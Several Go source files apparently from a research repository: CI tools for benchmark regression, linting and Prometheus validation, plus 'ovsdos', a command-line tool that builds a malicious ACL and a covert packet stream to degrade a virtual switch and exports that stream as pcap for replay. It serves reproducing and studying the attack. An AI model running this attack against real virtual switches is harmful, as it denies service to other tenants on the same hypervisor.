	if !strings.Contains(string(data), "attacks/three-field") {
		t.Fatalf("report does not mention the pack name:\n%s", data)
	}
}

// TestWriteReportErrorNamesPath: write failures carry the target path
// so a failing CI run says which report could not be produced.
func TestWriteReportErrorNamesPath(t *testing.T) {
	rep, err := scenario.NewReporter("json")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	// Occupy the would-be subdirectory with a regular file.
	if err := os.WriteFile(filepath.Join(dir, "attacks"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	_, err = writeReport(rep, dir, "attacks/three-field", "json", &scenario.Result{})
	if err == nil {
		t.Fatal("writeReport succeeded with a file blocking the subdirectory")
	}
	if !strings.Contains(err.Error(), filepath.Join(dir, "attacks", "three-field.json")) {
		t.Fatalf("error does not name the report path: %v", err)
	}
}
