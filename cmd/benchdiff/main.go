// Command benchdiff is the bench-regression gate of the CI pipeline: it
// parses two benchmark runs (either `go test -json` streams or plain
// `go test -bench` text) and fails when any pinned benchmark's ns/op
// regressed beyond the threshold ratio.
//
//	benchdiff -old ci/bench-baseline.json -new BENCH_pr5.json \
//	          -pins ci/bench-pins.txt -threshold 1.25
//
// Per benchmark the best (minimum) ns/op of the run is compared — the
// minimum estimator discards scheduler noise the same way sim.MeasureCost
// does. A pinned benchmark missing from the new run fails the gate (a
// silently dropped benchmark is a regression too); one missing from the
// baseline is reported and skipped, so new benchmarks can land before
// the snapshot is refreshed.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"regexp"
	"sort"
	"strconv"
	"strings"
)

// benchLine matches a Go benchmark result line: name, iteration count,
// ns/op. The -<procs> suffix is stripped during normalisation.
var benchLine = regexp.MustCompile(`^(Benchmark\S+)\s+(\d+)\s+([0-9.]+) ns/op`)

// testEvent is the subset of a `go test -json` event benchdiff reads.
type testEvent struct {
	Action  string `json:"Action"`
	Package string `json:"Package"`
	Output  string `json:"Output"`
}

// benchRun is one parsed benchmark run: each benchmark's best (minimum)
// ns/op plus the `cpu:` header line identifying the machine it ran on.
type benchRun struct {
	ns  map[string]float64
	cpu string
}

// parseBenchFile reads a benchmark run — `go test -json` stream or plain
// bench output — keyed by name with the GOMAXPROCS suffix stripped. In
// -json streams a single result line arrives split across several output
// events (the benchmark name flushes before the counters), so the
// per-package text stream is reassembled before line parsing.
func parseBenchFile(path string) (*benchRun, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	out := &benchRun{ns: make(map[string]float64)}
	record := func(line string) {
		if cpu, ok := strings.CutPrefix(strings.TrimSpace(line), "cpu: "); ok && out.cpu == "" {
			out.cpu = cpu
			return
		}
		name, ns, ok := parseBenchLine(line)
		if !ok {
			return
		}
		if have, seen := out.ns[name]; !seen || ns < have {
			out.ns[name] = ns
		}
	}
	streams := make(map[string]*strings.Builder) // per-package reassembled text
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		line := sc.Text()
		if !strings.HasPrefix(strings.TrimSpace(line), "{") {
			record(line)
			continue
		}
		var ev testEvent
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			return nil, fmt.Errorf("%s: bad -json line: %w", path, err)
		}
		if ev.Action != "output" {
			continue
		}
		sb := streams[ev.Package]
		if sb == nil {
			sb = &strings.Builder{}
			streams[ev.Package] = sb
		}
		sb.WriteString(ev.Output)
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	for _, sb := range streams {
		for _, line := range strings.Split(sb.String(), "\n") {
			record(line)
		}
	}
	return out, nil
}

// parseBenchLine extracts (normalised name, ns/op) from one bench result
// line, reporting false for non-bench lines.
func parseBenchLine(line string) (string, float64, bool) {
	mm := benchLine.FindStringSubmatch(strings.TrimSpace(line))
	if mm == nil {
		return "", 0, false
	}
	ns, err := strconv.ParseFloat(mm[3], 64)
	if err != nil {
		return "", 0, false
	}
	return normalizeName(mm[1]), ns, true
}

// normalizeName strips the trailing -<GOMAXPROCS> suffix Go appends to
// benchmark names, so runs from machines with different core counts
// compare.
func normalizeName(name string) string {
	i := strings.LastIndex(name, "-")
	if i <= 0 {
		return name
	}
	if _, err := strconv.Atoi(name[i+1:]); err != nil {
		return name
	}
	return name[:i]
}

// readPins loads the pinned benchmark names: one per line, '#' comments
// and blank lines ignored.
func readPins(path string) ([]string, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var pins []string
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		pins = append(pins, line)
	}
	return pins, sc.Err()
}

// verdict is one pinned benchmark's comparison outcome.
type verdict struct {
	name     string
	oldNs    float64
	newNs    float64
	ratio    float64
	status   string // "ok", "REGRESSED", "MISSING", "no-baseline"
	gateFail bool
}

// compare evaluates every pinned benchmark of newRun against oldRun at
// the given regression threshold (new/old ratio above it fails). With
// cpuMismatch set — the two runs come from different machines, so the
// absolute-ns/op ratio is shifted by the hardware delta — regressions
// are reported as advisory instead of failing the gate; a MISSING pin
// still fails, since benchmark existence is machine-independent. This is
// the bootstrap path: the first run on a new runner class warns, the
// operator refreshes the baseline from that run's artifact, and the gate
// enforces from then on.
func compare(pins []string, oldRun, newRun map[string]float64, threshold float64, cpuMismatch bool) []verdict {
	var out []verdict
	for _, name := range pins {
		v := verdict{name: name, status: "ok"}
		newNs, haveNew := newRun[name]
		oldNs, haveOld := oldRun[name]
		v.oldNs, v.newNs = oldNs, newNs
		switch {
		case !haveNew:
			v.status, v.gateFail = "MISSING", true
		case !haveOld:
			v.status = "no-baseline"
		default:
			v.ratio = newNs / oldNs
			if v.ratio > threshold {
				if cpuMismatch {
					v.status = "REGRESSED (advisory: cpu mismatch)"
				} else {
					v.status, v.gateFail = "REGRESSED", true
				}
			}
		}
		out = append(out, v)
	}
	return out
}

func main() {
	oldPath := flag.String("old", "", "baseline bench run (-json stream or plain bench output)")
	newPath := flag.String("new", "", "candidate bench run to gate")
	pinsPath := flag.String("pins", "", "file listing the pinned benchmarks to gate (one per line); default: every benchmark present in the baseline")
	threshold := flag.Float64("threshold", 1.25, "fail when new/old ns/op exceeds this ratio")
	flag.Parse()
	if *oldPath == "" || *newPath == "" {
		fmt.Fprintln(os.Stderr, "benchdiff: -old and -new are required")
		flag.Usage()
		os.Exit(2)
	}
	oldRun, err := parseBenchFile(*oldPath)
	if err != nil {
		fmt.Fprintf(os.Stderr, "benchdiff: %v\n", err)
		os.Exit(2)
	}
	newRun, err := parseBenchFile(*newPath)
	if err != nil {
		fmt.Fprintf(os.Stderr, "benchdiff: %v\n", err)
		os.Exit(2)
	}
	var pins []string
	if *pinsPath != "" {
		if pins, err = readPins(*pinsPath); err != nil {
			fmt.Fprintf(os.Stderr, "benchdiff: %v\n", err)
			os.Exit(2)
		}
	} else {
		for name := range oldRun.ns {
			pins = append(pins, name)
		}
		sort.Strings(pins)
	}
	if len(pins) == 0 {
		fmt.Fprintln(os.Stderr, "benchdiff: no pinned benchmarks to gate")
		os.Exit(2)
	}
	cpuMismatch := oldRun.cpu != "" && newRun.cpu != "" && oldRun.cpu != newRun.cpu
	if cpuMismatch {
		fmt.Printf("WARNING: baseline cpu %q != candidate cpu %q — ns/op ratios are shifted by the hardware delta, regressions reported as advisory only; refresh the baseline from this machine class's artifact to arm the gate\n\n",
			oldRun.cpu, newRun.cpu)
	}

	verdicts := compare(pins, oldRun.ns, newRun.ns, *threshold, cpuMismatch)
	fail := false
	fmt.Printf("%-60s %14s %14s %8s  %s\n", "benchmark", "old ns/op", "new ns/op", "ratio", "status")
	for _, v := range verdicts {
		ratio := "-"
		if v.ratio > 0 {
			ratio = fmt.Sprintf("%.2fx", v.ratio)
		}
		fmt.Printf("%-60s %14.1f %14.1f %8s  %s\n", v.name, v.oldNs, v.newNs, ratio, v.status)
		fail = fail || v.gateFail
	}
	if fail {
		fmt.Printf("\nbenchdiff: FAIL (threshold %.2fx)\n", *threshold)
		os.Exit(1)
	}
	fmt.Printf("\nbenchdiff: ok (%d benchmarks gated, threshold %.2fx)\n", len(verdicts), *threshold)
}
