package main

import (
	"os"
	"path/filepath"
	"testing"
)

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestParseBenchLine(t *testing.T) {
	cases := []struct {
		line string
		name string
		ns   float64
		ok   bool
	}{
		{"BenchmarkFoo-8   \t 123\t  456.5 ns/op", "BenchmarkFoo", 456.5, true},
		{"BenchmarkBar/sub/case-16  10  99 ns/op  12 B/op", "BenchmarkBar/sub/case", 99, true},
		{"BenchmarkNoProcs 5 10 ns/op", "BenchmarkNoProcs", 10, true},
		{"ok  \tpolicyinject\t1.2s", "", 0, false},
		{"goos: linux", "", 0, false},
		{"--- BENCH: BenchmarkFoo", "", 0, false},
	}
	for _, c := range cases {
		name, ns, ok := parseBenchLine(c.line)
		if ok != c.ok || name != c.name || ns != c.ns {
			t.Errorf("parseBenchLine(%q) = (%q, %v, %v), want (%q, %v, %v)",
				c.line, name, ns, ok, c.name, c.ns, c.ok)
		}
	}
}

func TestParseBenchFileJSONAndPlain(t *testing.T) {
	// Real -json streams flush the benchmark name and its counters as
	// separate output events; the parser must reassemble them.
	jsonRun := writeFile(t, "run.json", `
{"Action":"output","Package":"p","Output":"goos: linux\n"}
{"Action":"output","Package":"p","Output":"BenchmarkA-8   \t"}
{"Action":"output","Package":"p","Output":" 100   200.0 ns/op\n"}
{"Action":"output","Package":"p","Output":"BenchmarkA-8   120   180.0 ns/op\n"}
{"Action":"output","Package":"p","Output":"BenchmarkB/x-8   50   1000 ns/op   32.0 burst\n"}
{"Action":"run","Package":"p","Test":"BenchmarkC"}
`)
	run, err := parseBenchFile(jsonRun)
	if err != nil {
		t.Fatal(err)
	}
	// Repeated benchmark keeps the minimum ns/op.
	if run.ns["BenchmarkA"] != 180 || run.ns["BenchmarkB/x"] != 1000 || len(run.ns) != 2 {
		t.Fatalf("json parse = %v", run.ns)
	}

	plainRun := writeFile(t, "run.txt", `
goos: linux
BenchmarkA-4    100    250 ns/op
BenchmarkB/x-4   50   1500 ns/op
PASS
`)
	run, err = parseBenchFile(plainRun)
	if err != nil {
		t.Fatal(err)
	}
	if run.ns["BenchmarkA"] != 250 || run.ns["BenchmarkB/x"] != 1500 {
		t.Fatalf("plain parse = %v", run.ns)
	}
}

func TestCompareVerdicts(t *testing.T) {
	oldRun := map[string]float64{"BenchmarkA": 100, "BenchmarkB": 100, "BenchmarkGone": 100}
	newRun := map[string]float64{"BenchmarkA": 120, "BenchmarkB": 130, "BenchmarkNew": 50}
	pins := []string{"BenchmarkA", "BenchmarkB", "BenchmarkGone", "BenchmarkNew"}
	vs := compare(pins, oldRun, newRun, 1.25, false)
	want := map[string]struct {
		status string
		fail   bool
	}{
		"BenchmarkA":    {"ok", false},          // 1.20x, inside threshold
		"BenchmarkB":    {"REGRESSED", true},    // 1.30x
		"BenchmarkGone": {"MISSING", true},      // dropped from the new run
		"BenchmarkNew":  {"no-baseline", false}, // not yet in the snapshot
	}
	if len(vs) != len(pins) {
		t.Fatalf("verdicts = %d", len(vs))
	}
	for _, v := range vs {
		w := want[v.name]
		if v.status != w.status || v.gateFail != w.fail {
			t.Errorf("%s: status=%q fail=%v, want %q/%v", v.name, v.status, v.gateFail, w.status, w.fail)
		}
	}
}

// TestCompareCPUMismatchAdvisory: across machines a ratio blowout must
// not fail the gate (it measures hardware, not the PR), but a missing
// pinned benchmark still does.
func TestCompareCPUMismatchAdvisory(t *testing.T) {
	oldRun := map[string]float64{"BenchmarkB": 100, "BenchmarkGone": 100}
	newRun := map[string]float64{"BenchmarkB": 200}
	vs := compare([]string{"BenchmarkB", "BenchmarkGone"}, oldRun, newRun, 1.25, true)
	if vs[0].gateFail || vs[0].status != "REGRESSED (advisory: cpu mismatch)" {
		t.Errorf("BenchmarkB: status=%q fail=%v, want advisory/no-fail", vs[0].status, vs[0].gateFail)
	}
	if !vs[1].gateFail || vs[1].status != "MISSING" {
		t.Errorf("BenchmarkGone: status=%q fail=%v, want MISSING/fail", vs[1].status, vs[1].gateFail)
	}
}

func TestReadPins(t *testing.T) {
	pins, err := readPins(writeFile(t, "pins.txt", `
# comment
BenchmarkA

BenchmarkB/sub
`))
	if err != nil {
		t.Fatal(err)
	}
	if len(pins) != 2 || pins[0] != "BenchmarkA" || pins[1] != "BenchmarkB/sub" {
		t.Fatalf("pins = %v", pins)
	}
}

// TestParseBenchFileEmpty: an empty run file parses cleanly to zero
// benchmarks — the gate then fails on the MISSING pins, not on a parse
// error, so the operator sees which benchmarks vanished.
func TestParseBenchFileEmpty(t *testing.T) {
	run, err := parseBenchFile(writeFile(t, "empty.json", ""))
	if err != nil {
		t.Fatalf("empty file: %v", err)
	}
	if len(run.ns) != 0 || run.cpu != "" {
		t.Fatalf("empty file parsed to %v / cpu %q", run.ns, run.cpu)
	}
}

// TestParseBenchFileTruncatedJSON pins the exact error a truncated
// `go test -json` stream produces: the cut-off event line must surface
// as a parse failure naming the file, never be silently skipped as if
// the benchmarks it carried had not run.
func TestParseBenchFileTruncatedJSON(t *testing.T) {
	path := writeFile(t, "truncated.json", `{"Action":"output","Package":"p","Output":"BenchmarkA-8 100 200.0 ns/op\n"}
{"Action":"output","Package":"p","Outp`)
	_, err := parseBenchFile(path)
	if err == nil {
		t.Fatal("truncated -json stream parsed without error")
	}
	want := path + ": bad -json line: unexpected end of JSON input"
	if err.Error() != want {
		t.Fatalf("error = %q, want %q", err.Error(), want)
	}
}

// TestParseBenchFileDuplicateNames: repeated result lines for one
// benchmark (multiple -count runs, or -json and plain text mixed) keep
// the minimum ns/op, and the -<procs> suffix does not split them into
// distinct names.
func TestParseBenchFileDuplicateNames(t *testing.T) {
	run, err := parseBenchFile(writeFile(t, "dup.txt", `
BenchmarkA-4 100 250 ns/op
BenchmarkA-8 100 210 ns/op
BenchmarkA-4 100 240 ns/op
`))
	if err != nil {
		t.Fatal(err)
	}
	if len(run.ns) != 1 {
		t.Fatalf("duplicates split into %v", run.ns)
	}
	if run.ns["BenchmarkA"] != 210 {
		t.Fatalf("BenchmarkA = %v, want the minimum 210", run.ns["BenchmarkA"])
	}
}

func TestParseBenchFileCPUHeader(t *testing.T) {
	run, err := parseBenchFile(writeFile(t, "run.txt", `
goos: linux
cpu: Intel(R) Xeon(R) Processor @ 2.10GHz
BenchmarkA-4 100 250 ns/op
`))
	if err != nil {
		t.Fatal(err)
	}
	if run.cpu != "Intel(R) Xeon(R) Processor @ 2.10GHz" {
		t.Fatalf("cpu = %q", run.cpu)
	}
}
