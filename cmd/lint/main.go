// Command lint runs the project's static-analysis suite (internal/analysis)
// over the module and exits non-zero on findings.
//
// Usage:
//
//	lint [-json] [-list] [patterns...]
//
// Patterns are Go package patterns relative to the module root ("./...",
// "./internal/cache"); the default is "./...". With -json, findings are
// emitted as a JSON array instead of compiler-style text. Exit status: 0
// for a clean tree, 1 when any finding survives //lint:allow suppression,
// 2 on load or usage errors.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"

	"policyinject/internal/analysis"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

// jsonDiag is the stable -json shape, one object per finding.
type jsonDiag struct {
	File     string `json:"file"`
	Line     int    `json:"line"`
	Column   int    `json:"column"`
	Analyzer string `json:"analyzer"`
	Message  string `json:"message"`
}

func run(args []string, stdout, stderr *os.File) int {
	fs := flag.NewFlagSet("lint", flag.ContinueOnError)
	fs.SetOutput(stderr)
	jsonOut := fs.Bool("json", false, "emit findings as a JSON array")
	list := fs.Bool("list", false, "list the analyzers and exit")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *list {
		for _, az := range analysis.Analyzers() {
			fmt.Fprintf(stdout, "%-16s %s\n", az.Name, az.Doc)
		}
		return 0
	}
	patterns := fs.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	cwd, err := os.Getwd()
	if err != nil {
		fmt.Fprintf(stderr, "lint: %v\n", err)
		return 2
	}
	prog, err := analysis.Load(cwd, patterns)
	if err != nil {
		fmt.Fprintf(stderr, "lint: %v\n", err)
		return 2
	}
	diags := prog.Run(analysis.Analyzers()...)
	if *jsonOut {
		out := make([]jsonDiag, 0, len(diags))
		for _, d := range diags {
			out = append(out, jsonDiag{
				File:     d.Pos.Filename,
				Line:     d.Pos.Line,
				Column:   d.Pos.Column,
				Analyzer: d.Analyzer,
				Message:  d.Message,
			})
		}
		enc := json.NewEncoder(stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(out); err != nil {
			fmt.Fprintf(stderr, "lint: %v\n", err)
			return 2
		}
	} else {
		for _, d := range diags {
			fmt.Fprintln(stdout, d.String())
		}
	}
	if len(diags) > 0 {
		if !*jsonOut {
			fmt.Fprintf(stderr, "lint: %d finding(s)\n", len(diags))
		}
		return 1
	}
	return 0
}
