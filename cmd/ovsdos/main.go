// Command ovsdos is the policy-injection attack tool (the Go counterpart
// of the paper's companion repository): it builds the malicious ACL,
// generates the adversarial covert stream, and can run the whole attack
// against the in-process dataplane model.
//
//	ovsdos predict -fields ip_src,tp_dst            mask count & stream plan
//	ovsdos acl     -fields ip_src,tp_dst,tp_src     print the ACL to inject
//	ovsdos stream  -fields ip_src -n 5              show covert packets
//	ovsdos pcap    -fields ip_src,tp_dst -o s.pcap  write the covert stream as pcap
//	ovsdos run     -fields ip_src,tp_dst            execute against a model switch
//
// Field targets: ip_src, ip_dst, tp_src, tp_dst (comma separated). The
// whitelisted values default to the paper's (10.0.0.1, port 80, port 5201)
// and can be overridden with -allow-ip / -allow-dport / -allow-sport.
package main

import (
	"flag"
	"fmt"
	"net/netip"
	"os"
	"strings"
	"time"

	"policyinject/internal/attack"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
	"policyinject/internal/sim"
	"policyinject/internal/traffic"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	cmd, args := os.Args[1], os.Args[2:]

	fs := flag.NewFlagSet(cmd, flag.ExitOnError)
	fields := fs.String("fields", "ip_src,tp_dst", "target fields (comma separated)")
	allowIP := fs.String("allow-ip", "10.0.0.1", "whitelisted source address")
	allowWidth := fs.Int("width", 0, "prefix length of the IP whitelist rule (0 = /32)")
	allowDPort := fs.Uint("allow-dport", 80, "whitelisted destination port")
	allowSPort := fs.Uint("allow-sport", 5201, "whitelisted source port")
	idle := fs.Float64("idle", 10, "revalidator idle timeout assumed, seconds")
	n := fs.Int("n", 10, "stream: packets to display")
	out := fs.String("o", "covert.pcap", "pcap: output file")
	fs.Parse(args)

	atk, err := buildAttack(*fields, *allowIP, *allowWidth, uint16(*allowDPort), uint16(*allowSPort))
	if err != nil {
		fatal(err)
	}

	switch cmd {
	case "predict":
		predict(atk, *idle)
	case "acl":
		printACL(atk)
	case "stream":
		stream(atk, *n)
	case "pcap":
		if err := writePcap(atk, *out, *idle); err != nil {
			fatal(err)
		}
	case "run":
		if err := run(atk); err != nil {
			fatal(err)
		}
	default:
		usage()
		os.Exit(2)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: ovsdos {predict|acl|stream|pcap|run} [-fields ip_src,tp_dst,tp_src] [flags]")
}

// writePcap exports the covert stream paced at the plan's refresh rate,
// ready for external replay tools.
func writePcap(atk *attack.Attack, path string, idle float64) error {
	frames, err := atk.Frames()
	if err != nil {
		return err
	}
	plan := atk.Plan(idle)
	spacing := uint32(1e6 / plan.PPS)
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	if err := pkt.WritePcap(f, frames, spacing); err != nil {
		return err
	}
	fmt.Printf("wrote %d covert frames to %s (paced %.0f pps = %s)\n",
		len(frames), path, plan.PPS, plan)
	return nil
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "ovsdos:", err)
	os.Exit(1)
}

func buildAttack(fields, allowIP string, width int, dport, sport uint16) (*attack.Attack, error) {
	ip, err := netip.ParseAddr(allowIP)
	if err != nil {
		return nil, fmt.Errorf("bad -allow-ip: %w", err)
	}
	atk := &attack.Attack{}
	for _, f := range strings.Split(fields, ",") {
		switch strings.TrimSpace(f) {
		case "ip_src":
			atk.Fields = append(atk.Fields, attack.TargetField{
				Field: flow.FieldIPSrc, Allow: flow.V4(ip), Width: width,
			})
		case "ip_dst":
			atk.Fields = append(atk.Fields, attack.TargetField{
				Field: flow.FieldIPDst, Allow: flow.V4(ip), Width: width,
			})
		case "tp_dst":
			atk.Fields = append(atk.Fields, attack.TargetField{
				Field: flow.FieldTPDst, Allow: uint64(dport),
			})
		case "tp_src":
			atk.Fields = append(atk.Fields, attack.TargetField{
				Field: flow.FieldTPSrc, Allow: uint64(sport),
			})
		case "ipv6_src":
			hi, _ := flow.V6(netip.MustParseAddr("2001:db8:0:1::1"))
			atk.Fields = append(atk.Fields, attack.TargetField{
				Field: flow.FieldIPv6SrcHi, Allow: hi, Width: width,
			})
		default:
			return nil, fmt.Errorf("unknown field %q (want ip_src, ip_dst, tp_src, tp_dst, ipv6_src)", f)
		}
	}
	return atk, atk.Validate()
}

func predict(atk *attack.Attack, idle float64) {
	fmt.Printf("target fields:   %d\n", len(atk.Fields))
	for _, t := range atk.Fields {
		fmt.Printf("  %-8s allow=%#x width=%d\n", t.Field.Name(), t.Allow, t.Field.Bits())
	}
	fmt.Printf("predicted masks: %d\n", atk.PredictedMasks())
	fmt.Printf("covert stream:   %s (idle timeout %.0fs)\n", atk.Plan(idle), idle)
}

func printACL(atk *attack.Attack) {
	theACL, err := atk.BuildACL()
	if err != nil {
		fatal(err)
	}
	fmt.Print(theACL.String())
}

func stream(atk *attack.Attack, n int) {
	frames, err := atk.Frames()
	if err != nil {
		fatal(err)
	}
	fmt.Printf("# covert stream: %d packets, showing %d\n", len(frames), min(n, len(frames)))
	for i, f := range frames {
		if i >= n {
			break
		}
		fmt.Printf("%5d  %s\n", i, pkt.Summary(f))
	}
}

// run executes the attack end to end against an in-process switch,
// following the paper's timeline — measure healthy, inject, flood,
// measure degraded — and reports the verification plus the victim cost
// impact. The switch models the kernel datapath (no EMC), as in the
// paper's Kubernetes demo.
func run(atk *attack.Attack) error {
	sw := dataplane.New("victim-hv", dataplane.WithoutEMC())
	// The victim's own service policy (eth_type pinned as the CMS does).
	var vm flow.Match
	vm.Key.Set(flow.FieldEthType, flow.EthTypeIPv4)
	vm.Mask.SetExact(flow.FieldEthType)
	vm.Key.Set(flow.FieldIPSrc, 0x0a0a0000) // 10.10.0.0/24 clients
	vm.Mask.SetPrefix(flow.FieldIPSrc, 24)
	sw.InstallRule(flowtable.Rule{Match: vm, Priority: 100, Action: flowtable.Action{Verdict: flowtable.Allow}, Comment: "victim whitelist"})
	sw.InstallRule(flowtable.Rule{Priority: 0, Comment: "victim default deny"})

	victim := traffic.NewVictim(traffic.VictimConfig{
		Src: netip.MustParseAddr("10.10.0.5"),
		Dst: netip.MustParseAddr("172.16.0.2"),
	})
	before := sim.MeasureCost(sw, victim, 1, 256)

	theACL, err := atk.BuildACL()
	if err != nil {
		return err
	}
	rules, err := theACL.Compile()
	if err != nil {
		return err
	}
	fmt.Println("== injecting ACL via CMS ==")
	fmt.Print(theACL.String())
	for _, r := range rules {
		sw.InstallRule(r) // flushes the caches, as a policy change does
	}

	fmt.Println("\n== flooding covert stream (wire frames, 32-frame bursts) ==")
	start := time.Now()
	v, err := atk.ExecuteFrames(sw, 2, 66)
	if err != nil {
		return err
	}
	fmt.Printf("%v (took %v)\n", v, time.Since(start).Round(time.Millisecond))

	after := sim.MeasureCost(sw, victim, 3, 256)
	fmt.Println("\n== victim impact ==")
	fmt.Printf("per-packet cost: %v -> %v (%.1fx slowdown)\n",
		before, after, float64(after)/float64(before))
	fmt.Printf("peak forwarding: %.2f Mpps -> %.3f Mpps\n",
		1e3/float64(before.Nanoseconds()), 1e3/float64(after.Nanoseconds()))
	fmt.Println()
	fmt.Print(sw.String())
	if !v.Achieved() {
		return fmt.Errorf("attack under-delivered: %s", v)
	}
	return nil
}
