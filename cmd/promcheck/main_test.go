package main

import (
	"strings"
	"testing"

	"policyinject/internal/telemetry"
)

// TestValidateAcceptsRealExposition round-trips an actual registry
// through WriteProm and demands a clean validation — the contract the
// CI telemetry-smoke step relies on.
func TestValidateAcceptsRealExposition(t *testing.T) {
	reg := telemetry.NewRegistry()
	reg.Counter("dp_frames_total", telemetry.L("switch", "s1")).Add(42)
	reg.Gauge("dp_mf_entries", telemetry.L("switch", "s1")).SetInt(7)
	h := reg.Histogram("dp_burst_ns")
	for i := uint64(1); i <= 100; i++ {
		h.Record(i * 100)
	}
	var b strings.Builder
	if err := reg.Snapshot().WriteProm(&b); err != nil {
		t.Fatal(err)
	}
	problems, samples, err := validate(strings.NewReader(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	if len(problems) > 0 {
		t.Fatalf("real exposition rejected:\n%s\ninput:\n%s", strings.Join(problems, "\n"), b.String())
	}
	// counter + gauge + summary (3 quantiles, sum, count) + max gauge.
	if samples != 1+1+5+1 {
		t.Errorf("samples = %d, want 8", samples)
	}
}

func TestValidateCatchesBrokenInput(t *testing.T) {
	cases := []struct {
		name  string
		input string
		wants string // substring of the reported problem
	}{
		{"bad-name", "1bad_metric 3\n", "illegal metric name"},
		{"bad-value", "m galaxy\n", "bad sample value"},
		{"unquoted-label", `m{x=3} 1` + "\n", "not quoted"},
		{"unterminated-label", `m{x="3} 1` + "\n", "unterminated"},
		{"dup-label", `m{x="1",x="2"} 1` + "\n", "duplicate label"},
		{"bad-label-name", `m{9x="1"} 1` + "\n", "illegal label name"},
		{"bad-type", "# TYPE m sumary\n", "unknown metric type"},
		{"dup-type", "# TYPE m counter\n# TYPE m counter\n", "duplicate TYPE"},
		{"type-after-samples", "m 1\n# TYPE m counter\n", "after its samples"},
		{"counter-with-suffix-family", "# TYPE m counter\n# TYPE m_other counter\nm_bucket 1\n", ""},
		{"summary-plain-sample", "# TYPE m summary\nm 1\n", "does not fit declared summary"},
		{"bad-timestamp", "m 1 soon\n", "bad timestamp"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			problems, _, err := validate(strings.NewReader(c.input))
			if err != nil {
				t.Fatal(err)
			}
			if c.wants == "" {
				if len(problems) != 0 {
					t.Fatalf("unexpected problems: %v", problems)
				}
				return
			}
			if len(problems) == 0 {
				t.Fatalf("accepted broken input %q", c.input)
			}
			if !strings.Contains(problems[0], c.wants) {
				t.Errorf("problem %q does not mention %q", problems[0], c.wants)
			}
		})
	}
}

// TestValidateSummaryAndEscapes pins the accepted grammar corners:
// quantile series, escaped quotes in label values, timestamps, NaN.
func TestValidateSummaryAndEscapes(t *testing.T) {
	input := `# HELP lat_ns request latency
# TYPE lat_ns summary
lat_ns{quantile="0.5"} 120
lat_ns{quantile="0.99"} NaN
lat_ns_sum 1.5e+06 1712345678
lat_ns_count 100
esc{msg="say \"hi\",ok"} +Inf
`
	problems, samples, err := validate(strings.NewReader(input))
	if err != nil {
		t.Fatal(err)
	}
	if len(problems) != 0 {
		t.Fatalf("problems: %v", problems)
	}
	if samples != 5 {
		t.Errorf("samples = %d, want 5", samples)
	}
}
