// Command promcheck validates Prometheus text exposition format
// (version 0.0.4) read from stdin or from file arguments. It is the
// CI gate behind the telemetry-smoke step: `dpctl metrics | promcheck`
// proves the scrape surface stays parseable without pulling a
// Prometheus client library into the module.
//
// Checked per input:
//   - every non-comment line is `name{labels} value [timestamp]` with a
//     legal metric name, quoted+escaped label values, and a float value
//     (NaN/+Inf/-Inf included);
//   - `# TYPE` lines carry a known type and appear at most once per
//     family, before any of the family's samples;
//   - samples under a declared family use only the suffixes that type
//     allows (summary: quantile series plus _sum/_count; histogram:
//     _bucket/_sum/_count).
//
// Exit status: 0 when every input parses, 1 otherwise (one line per
// problem on stderr), 2 on usage/IO errors.
package main

import (
	"bufio"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
)

func main() {
	if len(os.Args) < 2 {
		check("<stdin>", os.Stdin)
		return
	}
	for _, path := range os.Args[1:] {
		f, err := os.Open(path)
		if err != nil {
			fmt.Fprintln(os.Stderr, "promcheck:", err)
			os.Exit(2)
		}
		check(path, f)
		f.Close()
	}
}

// check validates one exposition, printing problems and exiting
// nonzero on the first broken input.
func check(name string, r io.Reader) {
	problems, samples, err := validate(r)
	if err != nil {
		fmt.Fprintf(os.Stderr, "promcheck: %s: %v\n", name, err)
		os.Exit(2)
	}
	for _, p := range problems {
		fmt.Fprintf(os.Stderr, "promcheck: %s: %s\n", name, p)
	}
	if len(problems) > 0 {
		os.Exit(1)
	}
	fmt.Printf("promcheck: %s: ok (%d samples)\n", name, samples)
}

// validate scans one exposition and returns the problems found plus the
// number of well-formed samples.
func validate(r io.Reader) (problems []string, samples int, err error) {
	types := map[string]string{} // family -> declared type
	sampled := map[string]bool{} // family has emitted samples
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	lineno := 0
	bad := func(format string, args ...any) {
		problems = append(problems, fmt.Sprintf("line %d: %s", lineno, fmt.Sprintf(format, args...)))
	}
	for sc.Scan() {
		lineno++
		line := sc.Text()
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, "#") {
			family, typ, isType, problem := parseComment(line)
			if problem != "" {
				bad("%s", problem)
				continue
			}
			if !isType {
				continue
			}
			if _, dup := types[family]; dup {
				bad("duplicate TYPE for family %s", family)
			}
			if sampled[family] {
				bad("TYPE for %s after its samples", family)
			}
